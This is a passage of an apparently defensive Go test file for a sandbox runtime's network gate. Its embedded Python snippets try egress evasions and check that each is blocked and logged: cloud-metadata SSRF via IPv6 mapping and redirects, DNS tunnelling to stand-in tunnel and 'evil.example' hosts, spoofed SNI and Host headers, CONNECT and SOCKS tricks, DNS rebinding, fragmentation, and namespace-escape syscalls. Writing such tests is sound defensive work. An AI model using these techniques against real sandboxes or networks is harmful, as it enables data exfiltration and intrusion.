// Copyright 2026 The sandpit authors
// SPDX-License-Identifier: Apache-2.0

package runtimetest

import (
	"fmt"
	"net/netip"
	"slices"
	"strings"
	"testing"

	"sandpit.dev/agent"
	"sandpit.dev/runtime"
)

// strike is an attempt at what the network's policy forbids, and what the journal must have
// of it; nothing where the kernel refuses it before anything is sent, which no journal sees.
//
// Each strike has ports of its own, so that its lines are told from others'.
type strike struct {
	attempt
	sees []string // lines of [watched.record]; * is any reason
}

// seen is a strike that the gate sees.
func seen(name, want, do string, sees ...string) strike {
	return strike{both(name, want, do), sees}
}

// unseen is one that never comes so far.
func unseen(name, want, do string) strike { return strike{attempt: both(name, want, do)} }

// forbidden is what an HTTP client is told.
const forbidden = "403"

// networkStrikes use what networkPrelude defines.
func networkStrikes(f facts) []strike {
	all := slices.Concat(controlStrikes, fragmentStrikes, sixStrikes, nameStrikes, proxyStrikes, protocolStrikes, interfaceStrikes)
	// The host's addresses, and what serves there on all of them, such as this.
	hosts := strike{attempt: both("reach the host's own addresses", "REFUSED", `for a in FACTS['addresses']: say((a, FACTS['tcp6_port']))
result = 'REFUSED'`)}
	list, _ := f["addresses"].([]string)
	for _, text := range list {
		a, err := netip.ParseAddr(text)
		if err != nil || a.IsLinkLocalUnicast() { // which has no meaning without an interface
			continue
		}
		hosts.sees = append(hosts.sees, fmt.Sprintf("tcp %s *", netip.AddrPortFrom(a, uint16(f["tcp6_port"].(int)))))
	}
	return append(all, hosts)
}

// networkPrelude is what strikes are made of: requests and questions by hand.
const networkPrelude = `
import re
WORLD, SIX, OTHER, OTHER6 = '93.184.216.34', '2606:2800:220:1::34', '93.184.216.40', '2606:2800:220:1::40'

def connect(to):
    s = socket.socket(socket.AF_INET6 if ':' in to[0] else socket.AF_INET)
    s.settimeout(5); s.connect(to)
    return s

def hear(s):
    "What the other side says until it ends; 'RESET' when it breaks off."
    got = b''
    try:
        while True:
            b = s.recv(65536)
            if not b: return got.decode('latin1')
            got += b
    except ConnectionResetError: return got.decode('latin1') or 'RESET'
    except TimeoutError: return got.decode('latin1') or 'SILENT'

def say(to, what=b'GET / HTTP/1.1\r\nHost: 1.2.3.4\r\nConnection: close\r\n\r\n'):
    "The status of a request, or what comes otherwise."
    try: s = connect(to)
    except OSError as e: return refusal(e)
    try: s.sendall(what)
    except OSError as e: return refusal(e)
    got = hear(s)
    m = re.match(r'HTTP/1.1 (\d+)', got)
    return m.group(1) if m else got[:200]

def question(name, kind=1, cls=1, opcode=0, number=7):
    q = struct.pack('>HHHHHH', number, 0x0100 | opcode << 11, 1, 0, 0, 0)
    for l in name.split('.'): q += bytes([len(l)]) + l.encode()
    return q + b'\0' + struct.pack('>HH', kind, cls)

def tell(s, what, to):
    "The answer to a datagram, which is sent again as resolvers do: what came before may have filled the queue."
    s.settimeout(2)
    for turn in range(4):
        s.sendto(what, to)
        try: return s.recvfrom(4096)[0]
        except TimeoutError: pass
    raise TimeoutError(errno.ETIMEDOUT, 'no answer')

def ask(name, server=('127.0.0.1', 53), kind=1, tcp=False, **more):
    "The code of an answer, and how many records it has."
    q = question(name, kind, **more)
    if tcp:
        s = connect(server); s.sendall(struct.pack('>H', len(q)) + q)
        a = s.recv(4096)[2:]
    else:
        a = tell(socket.socket(socket.AF_INET6 if ':' in server[0] else socket.AF_INET, socket.SOCK_DGRAM), q, server)
    n, flags, _, answers = struct.unpack_from('>HHHH', a)
    return '%s %d' % ({0: 'OK', 1: 'FORMAT', 2: 'FAILED', 3: 'NONE', 4: 'NEVER', 5: 'REFUSED'}[flags & 15], answers)

def hello(name):
    "A ClientHello for a name."
    import ssl
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    c = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT); c.check_hostname = False; c.verify_mode = ssl.CERT_NONE
    o = c.wrap_bio(incoming, outgoing, server_hostname=name)
    try: o.do_handshake()
    except ssl.SSLWantReadError: pass
    return outgoing.read()

def one(outcomes):
    "The one outcome that all have, or all of them."
    outcomes = list(outcomes)
    return outcomes[0] if len(set(outcomes)) == 1 else 'MIXED ' + ', '.join(outcomes)
`

// controlStrikes prove that what is allowed comes through, and that it is seen.
var controlStrikes = []strike{
	seen("what is allowed is reached by its name", "OK 1, 200", `result = ask('allowed.example') + ', ' + say((WORLD, 80), b'GET / HTTP/1.1\r\nHost: allowed.example\r\nConnection: close\r\n\r\n')`,
		"tcp allowed.example:80 allowed"),
	seen("and over IPv6", "OK 1, 200", `result = ask('allowed.example', kind=28) + ', ' + say((SIX, 6080), b'GET / HTTP/1.1\r\nHost: allowed.example\r\nConnection: close\r\n\r\n')`,
		"tcp allowed.example:6080 allowed"),
	seen("an address of the list is reached by itself", "200", `result = say(('8.8.4.4', 81))`, "tcp 8.8.4.4:81 allowed"),
	seen("datagrams go to the list", "6", `s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); result = str(s.sendto(b'packet', ('8.8.4.4', 6081))); time.sleep(.1)`, "udp 8.8.4.4:6081 allowed"),
	seen("what is not is refused", forbidden, `result = say((OTHER, 7001))`, "tcp 93.184.216.40:7001 address"),
}

// fragmentStrikes hide whom they mean in pieces.
var fragmentStrikes = []strike{
	unseen("make fragments by hand", eperm, `result = each(lambda a: socket.socket(*a).setsockopt(0, 3, 1), [(2, 3, 255), (2, 3, 6), (2, 3, 17), (10, 3, 255), (10, 3, 44), (10, 3, 17)])`),
	unseen("make frames by hand", eperm, `result = each(lambda k: call('socket', 17, k, 0x0008), [2, 3, 10])`),
	seen("datagrams of IPv6 in fragments", "SENT", `s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
s.setsockopt(41, 24, 1280); s.setsockopt(41, 23, 0) # IPV6_MTU, IPV6_MTU_DISCOVER: never
for n in (1300, 5000, 60000): s.sendto(b'f' * n, (OTHER6, 7010))
time.sleep(.2) # the queue is as long as the kernel makes it
result = 'SENT'`, "udp [2606:2800:220:1::40]:7010 address"),
	seen("datagrams of any size, with and without the bit that forbids fragments", "SENT", `for d in (0, 1, 2, 3, 4, 5):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.setsockopt(0, 10, d)
    for n in (1, 1400, 9000, 65507): s.sendto(b'f' * n, (OTHER, 7011))
    time.sleep(.05)
result = 'SENT'`, "udp 93.184.216.40:7011 address"),
	seen("questions in fragments", "NONE 0", `s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
s.setsockopt(41, 24, 1280); s.setsockopt(41, 23, 0)
a = tell(s, question('fragments.tunnel.example') + b'\0' * 2000, ('2001:4860:4860::8888', 53)); result = 'NONE %d' % struct.unpack_from('>HHHH', a)[3]`, "dns fragments.tunnel.example domain"),
	seen("a server name a byte at a time", "ALERT", `ask('allowed.example'); s = connect((WORLD, 7012)); s.setsockopt(6, 1, 1)
try:
    for b in hello('evil.example'): s.send(bytes([b]))
except OSError: pass
result = 'ALERT' if hear(s).startswith('\x15') else 'OTHER'`, "tcp evil.example:7012 name"),
	seen("a server name in the smallest segments", "ALERT", `ask('allowed.example'); s = socket.socket(); s.setsockopt(6, 2, 88); s.settimeout(5); s.connect((WORLD, 7013))
s.sendall(hello('evil.example')); result = 'ALERT' if hear(s).startswith('\x15') else 'OTHER'`, "tcp evil.example:7013 name"),
	seen("a server name over records of TLS", "ALERT", `ask('allowed.example'); h = hello('evil.example'); body, out = h[5:], b''
for at in range(0, len(body), 7): out += h[:3] + struct.pack('>H', len(body[at:at+7])) + body[at:at+7]
result = 'ALERT' if say((WORLD, 7014), out).startswith('\x15') else 'OTHER'`, "tcp evil.example:7014 name"),
	seen("a name beside urgent bytes", forbidden, `ask('allowed.example'); s = connect((WORLD, 7015))
s.send(b'GET / HTTP/1.1\r\nHost: evil.exampl'); s.send(b'e', socket.MSG_OOB); s.send(b'e\r\n\r\n'); got = hear(s)
result = got[9:12]`, "tcp evil.example:7015 name"),
}

// sixStrikes say by IPv6 what is refused by IPv4.
var sixStrikes = []strike{
	seen("IPv6 to what is not listed", forbidden, `result = say((OTHER6, 7020))`, "tcp [2606:2800:220:1::40]:7020 address"),
	seen("mapped addresses", forbidden, `result = one(say(('::ffff:' + a, 7021)) for a in (OTHER, '169.254.169.254', '10.0.0.1'))`,
		"tcp 93.184.216.40:7021 address", "tcp 169.254.169.254:7021 private", "tcp 10.0.0.1:7021 private"),
	seen("addresses that carry one of IPv4", forbidden, `result = one(say((a, 7022)) for a in ('64:ff9b::a9fe:a9fe', '2002:a9fe:a9fe::', '::169.254.169.254', '2001:0:0:0:0:0:5601:5601'))`,
		"tcp [64:ff9b::a9fe:a9fe]:7022 private", "tcp [2002:a9fe:a9fe::]:7022 private", "tcp [::a9fe:a9fe]:7022 private", "tcp [2001::5601:5601]:7022 private"),
	seen("unique local and metadata addresses", forbidden, `result = one(say((a, 7023)) for a in ('fd00::1', 'fd00:ec2::254', 'fc00::1'))`,
		"tcp [fd00::1]:7023 private", "tcp [fd00:ec2::254]:7023 private", "tcp [fc00::1]:7023 private"),
	seen("link-local addresses of the loopback's zone", forbidden, `s = socket.socket(socket.AF_INET6); s.settimeout(5); s.connect(('fe80::1', 7024, 0, 1))
s.sendall(b'GET / HTTP/1.1\r\nHost: 1.2.3.4\r\n\r\n'); result = hear(s)[9:12]`, "tcp [fe80::1]:7024 private"),
	unseen("link-local addresses of other zones, and of none", "REFUSED EINVAL or REFUSED ENODEV or MIXED", `def f(zone):
    s = socket.socket(socket.AF_INET6); s.settimeout(2); s.connect(('fe80::1', 7027, 0, zone))
result = each(f, [0, 2, 3, 7])
if result.startswith('MIXED') and 'DONE' not in result: result = 'MIXED'`),
	unseen("headers of IPv6 that come before", eperm, `s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
result = each(lambda o: s.setsockopt(41, o, struct.pack('BBBBBBBB', 0, 0, 1, 4, 0, 0, 0, 0)), [54, 55, 59])`),
	unseen("a route in the header of IPv6", "NOWHERE", `def f(kind):
    s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
    s.setsockopt(41, 57, struct.pack('BBBB4x16s', 0, 2, kind, 1, socket.inet_pton(10, OTHER6)))
    s.sendto(b'x', ('fd00:ec2::254', 7025))
each(f, [0, 2, 3, 4]); result = 'NOWHERE'`),
	unseen("groups on the link", "NOWHERE", `def f(a):
    s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM); s.setsockopt(41, 17, 1); s.sendto(b'x', (a, 7026, 0, 1))
each(f, ['ff02::1', 'ff02::fb', 'ff05::2']); result = 'NOWHERE'`),
}

// nameStrikes carry data out in questions, or have names stand for other addresses.
var nameStrikes = []strike{
	seen("a foreign resolver", "NONE 0", `result = one(ask('one.tunnel.example', (a, 53), tcp=t) for a in ('8.8.8.8', '1.1.1.1', '8.8.4.4', '169.254.169.254', '2001:4860:4860::8888') for t in (False, True))`,
		"dns one.tunnel.example domain"),
	seen("records that carry most", "NONE 0", `result = one(ask('two.tunnel.example', ('8.8.8.8', 53), kind=k) for k in (10, 16, 5, 15, 33, 65, 255, 28))`, "dns two.tunnel.example domain"),
	seen("a foreign resolver over TLS", "ALERT", `result = one('ALERT' if say((a, 853), hello('dns.tunnel.example')).startswith('\x15') else 'OTHER' for a in ('9.9.9.9', '1.1.1.1'))`,
		"tcp dns.tunnel.example:853 domain"),
	seen("a foreign resolver over HTTPS", "ALERT", `result = 'ALERT' if say(('1.1.1.1', 443), hello('doh.tunnel.example')).startswith('\x15') else 'OTHER'`, "tcp doh.tunnel.example:443 domain"),
	seen("one behind an allowed server", "ALERT", `ask('allowed.example'); result = 'ALERT' if say((WORLD, 7030), hello('doh.tunnel.example')).startswith('\x15') else 'OTHER'`, "tcp doh.tunnel.example:7030 name"),
	seen("resolvers on other ports", "SENT", `for p in (5353, 5355, 784, 8853): socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(question('three.tunnel.example'), ('9.9.9.9', p))
result = 'SENT'`, "udp 9.9.9.9:5353 address", "udp 9.9.9.9:5355 address", "udp 9.9.9.9:784 address", "udp 9.9.9.9:8853 address"),
	// What is for a group stays in the namespace, for whoever joined it there.
	unseen("groups and broadcasts", "NOWHERE", `def f(a):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.setsockopt(1, 6, 1); s.setsockopt(0, 33, 200)
    s.sendto(question('three.tunnel.example'), (a, 5353))
each(f, ['224.0.0.251', '239.255.255.250', '255.255.255.255']); result = 'NOWHERE'`),
	seen("other bytes to the port of names", "NOTHING", `s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(.2)
got = []
for b in (b'data', b'\0' * 12, struct.pack('>HHHHHH', 1, 0x8180, 1, 0, 0, 0) + b'\1a\0\0\1\0\1', b'x' * 9000):
    s.sendto(b, ('8.8.8.53', 53))
    try: got.append(s.recvfrom(100)[0])
    except TimeoutError: pass
result = 'NOTHING' if all(struct.unpack_from('>HHHHHH', g)[3:] == (0, 0, 0) for g in got) else str(got)`, "udp 8.8.8.53:53 protocol", "dns  protocol"),
	seen("other bytes to the port of names over TCP", "NOTHING", `got = [say(('8.8.8.54', 53), b) for b in (b'\xff\5\1\0', b'SSH-2.0-x\r\n', b'CONNECT evil.example:443 HTTP/1.1\r\n\r\n', struct.pack('>H', 12) + b'\0\1\x81\x80' + b'\0' * 8)]
result = 'NOTHING' if not [g for g in got if g not in ('', 'RESET') ] else str(got)`, "tcp 8.8.8.54:53 protocol"),
	seen("other classes and verbs of names", "NEVER 0", `result = one([ask('four.tunnel.example', ('8.8.8.8', 53), cls=3), ask('allowed.example', opcode=5), ask('allowed.example', opcode=2)])`,
		"dns four.tunnel.example protocol", "dns allowed.example protocol"),
	seen("names without end below an allowed one", "some, then REFUSED 0", `got = [ask('d%06x.wild.example' % n) for n in range(60)]
result = 'some, then ' + one(got[30:]) if got[0] == 'OK 1' else one(got)`, "dns *.wild.example names"),
	seen("the same by labels of services", "some, then REFUSED 0", `got = [ask('_d%06x._tcp.allowed.example' % n, kind=16) for n in range(60)]
result = 'some, then ' + one(got[30:]) if got[0] == 'OK 1' else one(got)`, "dns allowed.example names"),
	seen("the same by server names", "ALERT", `result = one('ALERT' if say((OTHER, 7031), hello('s%06x.wild.example' % n)).startswith('\x15') else 'OTHER' for n in range(30))`,
		"tcp *.wild.example:7031 names"),
	seen("a name that stands for a neighbour later", "OK 1, OK 0, OK 0, 200, 403", `result = ', '.join([ask('rebind.example'), ask('rebind.example'), ask('rebind.example', kind=28),
    say((WORLD, 7032), b'GET / HTTP/1.1\r\nHost: rebind.example\r\nConnection: close\r\n\r\n'), one(say((a, 7032), b'GET / HTTP/1.1\r\nHost: rebind.example\r\n\r\n') for a in ('169.254.169.254', '10.0.0.1'))])`,
		"dns rebind.example private", "tcp 169.254.169.254:7032 private", "tcp 10.0.0.1:7032 private"),
}

// proxyStrikes take the gate, or a server behind it, for a proxy.
var proxyStrikes = []strike{
	seen("CONNECT to what is not allowed, there", forbidden, `result = say((OTHER, 7040), b'CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example:443\r\n\r\n')`, "tcp evil.example:7040 domain"),
	seen("CONNECT by an allowed server", "RESET", `ask('allowed.example'); result = one(say((WORLD, 7041), b'CONNECT %s HTTP/1.1\r\nHost: allowed.example\r\n\r\n' % a) for a in (b'evil.example:443', b'169.254.169.254:80', b'[::1]:80'))`,
		"tcp allowed.example:7041 protocol"),
	seen("CONNECT that hides the host", forbidden, `ask('allowed.example'); result = one(say((WORLD, 7042), b) for b in (b'CONNECT evil.example:443 HTTP/1.1\r\n\r\n', b'\r\nCONNECT evil.example:443 HTTP/1.1\r\n\r\n', b'CONNECT evil.example HTTP/1.0\r\n\r\n'))`,
		"tcp evil.example:7042 name"),
	seen("the absolute form", "RESET", `ask('allowed.example'); result = one(say((WORLD, 7043), b'GET http://%s/ HTTP/1.1\r\nHost: allowed.example\r\n\r\n' % a) for a in (b'evil.example', b'169.254.169.254', b'allowed.example@evil.example', b'127.0.0.1:8080'))`,
		"tcp allowed.example:7043 protocol"),
	seen("a Host that disagrees", forbidden, `ask('allowed.example'); result = say((WORLD, 7044), b'GET / HTTP/1.1\r\nHost: evil.example\r\n\r\n')`, "tcp evil.example:7044 name"),
	seen("two Hosts, folded and spaced ones", "RESET", `ask('allowed.example'); result = one(say((WORLD, 7045), b'GET / HTTP/1.1\r\n' + h + b'\r\n\r\n') for h in
    (b'Host: allowed.example\r\nHost: evil.example', b'Host: allowed.example\r\n evil.example', b'Host : evil.example\r\nHost: allowed.example', b'Host: allowed.example\nHost: evil.example'))`,
		"tcp allowed.example:7045 protocol"),
	seen("a server name that disagrees", "ALERT", `ask('allowed.example'); result = 'ALERT' if say((WORLD, 7046), hello('evil.example')).startswith('\x15') else 'OTHER'`, "tcp evil.example:7046 name"),
	seen("TLS without a server name", "ALERT", `ask('allowed.example'); result = 'ALERT' if say((WORLD, 7047), hello(None)).startswith('\x15') else 'OTHER'`, "tcp allowed.example:7047 protocol"),
	seen("SOCKS to what is not allowed", "RESET", `result = one(say((OTHER, 7048), b) for b in (b'\5\1\0', b'\4\1\0\x50\xa9\xfe\xa9\xfe\0', b'\5\1\0\5\1\0\1\xa9\xfe\xa9\xfe\0\x50'))`, "tcp 93.184.216.40:7048 address"),
	// The bytes go to the allowed server and to nobody else: the gate takes no orders.
	seen("SOCKS by an allowed server", "the server heard it", `ask('allowed.example'); got = say((WORLD, 7049), b'\5\1\0\n')
result = 'the server heard it' if got.startswith('raw 050100') else got`, "tcp allowed.example:7049 allowed"),
	seen("redirects to where nobody may go", "403, 403, 403", `ask('allowed.example')
def follow(to):
    s = connect((WORLD, 7050)); s.sendall(b'GET /redirect/%s HTTP/1.1\r\nHost: allowed.example\r\nConnection: close\r\n\r\n' % to.encode())
    host, port = re.search(r'Location: http://([^:]+):(\d+)/', hear(s)).groups()
    return say((host, int(port)))
result = ', '.join(follow(t) for t in ('169.254.169.254:7051/latest/meta-data/', '10.0.0.1:7051/', '100.100.100.200:7051/'))`,
		"tcp allowed.example:7050 allowed", "tcp 169.254.169.254:7051 private", "tcp 10.0.0.1:7051 private", "tcp 100.100.100.200:7051 private"),
	seen("redirects that curl follows", forbidden, `ask('allowed.example'); result = run(['curl', '-sL', '-m', '10', '-o', '/dev/null', '-w', '%{http_code}', '--resolve', 'allowed.example:7052:' + WORLD, 'http://allowed.example:7052/redirect/169.254.169.254:7053/'])`,
		"tcp allowed.example:7052 allowed", "tcp 169.254.169.254:7053 private"),
	unseen("the host's loopback and the server's own API", "REFUSED ECONNREFUSED", `result = one(say((a, FACTS[p])) for a in ('127.0.0.1', '127.1.2.3', '0.0.0.0', '::1', '::ffff:127.0.0.1') for p in ('tcp_port', 'tcp6_port'))`),
	seen("private ranges and other sandboxes", forbidden, `result = one(say((a, 7054)) for a in ('10.1.2.3', '172.17.0.2', '192.168.1.1', '100.64.0.1', '198.18.0.1', '168.63.129.16'))`,
		"tcp 10.1.2.3:7054 private", "tcp 172.17.0.2:7054 private", "tcp 192.168.1.1:7054 private", "tcp 100.64.0.1:7054 private", "tcp 198.18.0.1:7054 private", "tcp 168.63.129.16:7054 private"),
}

// protocolStrikes go by other protocols, or by options of those that there are.
var protocolStrikes = []strike{
	seen("TCP that opens with data", forbidden, `s = socket.socket()
s.sendto(b'GET / HTTP/1.1\r\nHost: 1.2.3.4\r\n\r\n', 0x20000000, (OTHER, 7060)); result = hear(s)[9:12]`, "tcp 93.184.216.40:7060 address"),
	seen("the same by connect", forbidden, `s = socket.socket(); s.settimeout(5); s.setsockopt(6, 30, 1); s.connect((OTHER, 7061))
s.sendall(b'GET / HTTP/1.1\r\nHost: 1.2.3.4\r\n\r\n'); result = hear(s)[9:12]`, "tcp 93.184.216.40:7061 address"),
	seen("TCP of many paths", forbidden, `s = socket.socket(2, 1, 262); s.settimeout(5); s.connect((OTHER, 7062))
s.sendall(b'GET / HTTP/1.1\r\nHost: 1.2.3.4\r\n\r\n'); result = hear(s)[9:12]`, "tcp 93.184.216.40:7062 address"),
	seen("a source of one's choice", forbidden, `def f(a):
    s = socket.socket(); s.settimeout(5); s.setsockopt(0, 15, 1); s.bind((a, 0)); s.connect((OTHER, 7063))
    s.sendall(b'GET / HTTP/1.1\r\nHost: 1.2.3.4\r\n\r\n'); return hear(s)[9:12]
result = one(f(a) for a in ('10.0.0.9', '169.254.169.254', '8.8.4.4'))`, "tcp 93.184.216.40:7063 address"),
	seen("the loopback's device, by name", forbidden, `s = socket.socket(); s.settimeout(5); s.setsockopt(1, 25, b'lo\0'); s.connect((OTHER, 7064))
s.sendall(b'GET / HTTP/1.1\r\nHost: 1.2.3.4\r\n\r\n'); result = hear(s)[9:12]`, "tcp 93.184.216.40:7064 address"),
	seen("the port that the gate answers for", "SENT", `s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind(('0.0.0.0', 0)); s.connect((OTHER, 7065))
for _ in range(5):
    try: s.send(b'x')
    except ConnectionRefusedError: pass
result = 'SENT'`, "udp 93.184.216.40:7065 address"),
	unseen("SCTP, DCCP, L2TP and UDP-Lite", eperm, `result = each(lambda a: socket.socket(*a),
    [(2, 1, 132), (2, 5, 132), (10, 1, 132), (2, 6, 33), (10, 6, 33), (2, 2, 115), (2, 2, 136), (10, 2, 136)])`),
	unseen("ICMP", "REFUSED EACCES", `result = each(lambda a: socket.socket(*a), [(2, 2, 1), (10, 2, 58)])`),
	unseen("ICMP by hand, and tunnels in IP", eperm, `result = each(lambda a: socket.socket(*a), [(2, 3, 1), (2, 3, 2), (2, 3, 4), (2, 3, 41), (2, 3, 47), (2, 3, 50), (2, 3, 94), (10, 3, 58), (10, 3, 41)])`),
	unseen("other families", eperm, `result = each(lambda a: call('socket', *a), [(40, 1, 0), (40, 2, 0), (44, 3, 0), (38, 5, 0), (17, 3, 3), (30, 2, 0), (29, 3, 1), (21, 5, 0), (31, 1, 3), (36, 2, 0), (39, 1, 0), (43, 1, 0), (45, 2, 0)])`),
	unseen("marks, priorities and being transparent", eperm, `s, t = socket.socket(), socket.socket(socket.AF_INET6)
result = each(lambda o: (t if o[0] == 41 else s).setsockopt(*o), [(1, 36, 1), (1, 12, 7), (0, 19, 1), (41, 75, 1)])`),
	unseen("the gate's sockets, ended by others", "REFUSED EPERM or REFUSED EOPNOTSUPP or REFUSED ENOENT or REFUSED EINVAL", `netlink(21, 5, struct.pack('BBBBI', 2, 6, 0, 0, 1 << 10) + b'\0' * 48, 4)`),
}

// interfaceStrikes change what the network is made of.
var interfaceStrikes = []strike{
	unseen("add interfaces of any kind", eperm, `def f(kind):
    k = struct.pack('HH', 4 + len(kind) + 1, 1) + kind.encode() + b'\0'; k += b'\0' * (-len(k) % 4)
    netlink(16, 5 | 0x600, struct.pack('BBHiII', 0, 0, 0, 0, 0, 0) + struct.pack('HH', 4 + len(k), 18) + k)
result = each(f, ['dummy', 'veth', 'bridge', 'vlan', 'macvlan', 'ipvlan', 'tun', 'wireguard', 'vxlan', 'gre', 'sit', 'ipip', 'ifb', 'netkit'])`),
	unseen("open tunnels", "REFUSED ENOENT or REFUSED EPERM or REFUSED EACCES", `result = each(lambda p: os.open(p, os.O_RDWR), ['/dev/net/tun', '/dev/vhost-net', '/dev/vhost-vsock', '/dev/ppp'])`),
	unseen("make a tunnel's device", eperm, `result = each(lambda d: os.mknod('/tmp/tun%d' % d[1], 0o600 | stat.S_IFCHR, os.makedev(*d)), [(10, 200), (10, 238), (108, 0)])`),
	unseen("take loopback down and up", eperm, `result = each(lambda up: netlink(16, 5, struct.pack('BBHiII', 0, 0, 0, 1, up, 1)), [0, 1])`),
	unseen("take loopback down by the old call, and rename it", eperm, `s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
result = each(lambda c: fcntl.ioctl(s, c[0], c[1]), [(0x8914, struct.pack('16sh14x', b'lo', 0)), (0x8914, struct.pack('16sh14x', b'lo', 0x49)),
    (0x8923, struct.pack('16s16s', b'lo', b'out')), (0x8922, struct.pack('16si12x', b'lo', 1280)), (0x8924, struct.pack('16sH14x', b'lo', 1))])`),
	unseen("add addresses, and take them away", eperm, `def f(a):
    kind, family, bits, address = a
    netlink(kind, 5 | 0x400, struct.pack('BBBBI', family, bits, 0, 0, 1) + struct.pack('HH', 4 + len(address), 2) + address)
result = each(f, [(20, 2, 24, bytes([10, 0, 0, 2])), (20, 2, 32, bytes([169, 254, 169, 254])), (20, 10, 64, bytes(15) + b'\2'), (21, 2, 8, bytes([127, 0, 0, 1])), (21, 10, 128, bytes(15) + b'\1')])`),
	unseen("add an address by the old call, and routes", eperm, `s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); t = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
address = struct.pack('HH4s8x', 2, 0, bytes([10, 0, 0, 2]))
route = struct.pack('Q', 0) + address + struct.pack('H14x', 2) + struct.pack('H14x', 2) + struct.pack('H', 1) + bytes(64)
result = each(lambda c: fcntl.ioctl(c[0], c[1], c[2]), [(s, 0x8916, struct.pack('16s', b'lo') + address), (s, 0x890b, route), (s, 0x890c, route), (t, 0x890b, bytes(80))])`),
	unseen("add and take away routes of both families", eperm, `result = each(lambda a: netlink(a[0], 5 | a[1], struct.pack('BBBBBBBBI', a[2], 0, 0, 0, a[3], 4, a[4], a[5], 0) + struct.pack('HHI', 8, 4, 1)),
    [(24, 0x400, 2, 254, 0, 1), (24, 0x400, 10, 254, 0, 1), (24, 0x500, 2, 255, 254, 2), (25, 0, 2, 255, 254, 2), (25, 0, 10, 255, 254, 2), (25, 0, 2, 254, 0, 0)])`),
	unseen("add and take away rules of routing", eperm, `result = each(lambda a: netlink(a[0], 5 | a[1], struct.pack('BBBBBBBBI', a[2], 0, 0, 0, 254, 0, 0, 1, 0)), [(32, 0x400, 2), (32, 0x400, 10), (33, 0, 2), (33, 0, 10)])`),
	unseen("add neighbours, next hops and queues", eperm, `result = each(lambda a: netlink(a[0], 5 | 0x400, a[1]), [(28, struct.pack('BBHiHBB', 2, 0, 0, 1, 2, 0, 0) + struct.pack('HH4s', 8, 1, bytes([10, 0, 0, 1]))),
    (104, struct.pack('BBBBI', 2, 0, 0, 0, 0) + struct.pack('HHI', 8, 5, 1)), (36, struct.pack('BBHiIII', 0, 0, 0, 1, 0, 0xffffffff, 0)), (40, bytes(20)), (44, struct.pack('BBHiIII', 0, 0, 0, 1, 0, 0xffffffff, 0))])`),
	unseen("write rules of firewalls", eprotonosupport, `result = each(lambda a: netlink(a[0], 5 | 0x400, a[1], 12), [(10 << 8, struct.pack('BBH', 2, 0, 0)), (1 << 8, struct.pack('BBH', 2, 0, 0)), (6 << 8 | 2, struct.pack('BBH', 2, 0, 0))])`),
	unseen("write rules by the old calls", eperm+" or REFUSED ENOPROTOOPT", `s, t = socket.socket(), socket.socket(socket.AF_INET6)
result = each(lambda o: (t if o[0] == 41 else s).setsockopt(*o), [(0, 64, b'\0' * 128), (0, 65, b'\0' * 128), (41, 64, b'\0' * 128), (0, 96, b'\0' * 128)])`),
	unseen("write the network's settings", "REFUSED EACCES or REFUSED EROFS or REFUSED ENOENT or MIXED", `result = each(lambda p: write('/proc/sys/net/' + p, '1'), ['ipv4/ip_forward', 'ipv4/ping_group_range', 'ipv4/conf/all/accept_source_route', 'ipv4/conf/all/route_localnet', 'ipv4/ip_unprivileged_port_start', 'ipv6/conf/all/forwarding', 'ipv6/conf/all/seg6_enabled'])
if 'DONE' in result: result = 'WRITTEN ' + result
elif result.startswith('MIXED'): result = 'MIXED'`),
	unseen("leave for another network", eperm, `result = each(lambda f: f(), [lambda: call('unshare', 0x40000000), lambda: call('unshare', 0x50000000), lambda: clone(0x40000000), lambda: clone3(0x40000000)])`),
	unseen("enter other networks", "REFUSED EPERM or REFUSED EACCES", `def f(p):
    fd = os.open(p, os.O_RDONLY); call('setns', fd, 0x40000000)
result = each(f, ['/proc/%d/ns/net' % n for n in (1, os.getpid())])
if result.startswith('MIXED') and 'DONE' not in result: result = 'REFUSED EPERM'`),
	unseen("take the network of a socket", eperm, `fcntl.ioctl(socket.socket(), 0x894c)`),
	unseen("take the program away", eperm, `result = each(lambda c: call('bpf', c, ctypes.create_string_buffer(120), 120), [5, 9, 13, 14, 16, 28, 29, 30, 34])`),
	unseen("abstract sockets of the host and of a neighbour", "REFUSED ECONNREFUSED", `result = each(lambda n: socket.socket(socket.AF_UNIX).connect('\0' + n), [FACTS['abstract'], FACTS['neighbour']])`),
}

// networkStrike tries all ways around the gate that sandboxes have: none gets out, and what the
// gate can see is on the record, and nothing else.
func networkStrike(t *testing.T, s *suite) {
	host := hostFacts(t, s)
	neighbour := s.create(t, s.spec())
	host["neighbour"] = "sandpit-neighbour"
	neighbour.begin(agent.Command{Shell: `exec python3 -c "
import socket, time
s = socket.socket(socket.AF_UNIX); s.bind('\\0sandpit-neighbour'); s.listen(); print('listening', flush=True); time.sleep(600)"`}, "listening\n")
	for _, user := range []string{"sandbox", "root"} {
		t.Run(user, func(t *testing.T) {
			if user == "root" {
				s.need(t, runtime.RootUser)
			}
			b := s.create(t, s.spec())
			w := b.guarded()
			facts := withBox(t, s, b, host)
			list := networkStrikes(facts)
			attempts := make([]attempt, len(list))
			for i, x := range list {
				attempts[i] = x.attempt
				attempts[i].do = networkPrelude + x.do
			}
			b.attempts(t, user, facts, attempts)
			w.nothingGotOut(t)
			record := w.record()
			explained := map[string]bool{}
			for _, x := range list {
				for _, want := range x.sees {
					found := false
					for _, got := range record {
						if matches(want, got) {
							found, explained[got] = true, true
						}
					}
					if !found {
						t.Errorf("%s: it is not on the record: %s", x.name, want)
					}
				}
			}
			for _, got := range record {
				// A connection to the allowed server is one, whatever it says there then.
